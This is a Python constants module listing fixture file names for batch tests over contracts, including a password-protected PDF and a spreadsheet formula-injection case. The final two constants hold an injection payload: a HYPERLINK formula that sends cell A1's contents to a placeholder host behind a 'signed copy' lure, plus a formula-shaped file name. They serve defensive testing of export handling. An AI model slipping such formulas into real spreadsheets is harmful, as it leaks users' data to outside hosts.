"""Names of the real files the batch tests use (see conftest.py)."""

from __future__ import annotations

CUAD_TEXTS = (
    "SIBANNAC,INC_12_04_2017-EX-2.1-Strategic Alliance Agreement.txt",
    "COOLTECHNOLOGIES,INC_10_25_2017-EX-10.71-Strategic Alliance Agreement.txt",
)
TEMPLATE_DOCX = "common-paper-mutual-nda.docx"
ENCRYPTED_PDF = "pdfjs__issue6010_2.pdf"  # password-protected: a deterministic error row
# a contract whose text starts with a spreadsheet formula (and whose name does too)
FORMULA_NAME = "=HYPERLINK(evil).txt"
FORMULA_HEAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the signed copy")\n'
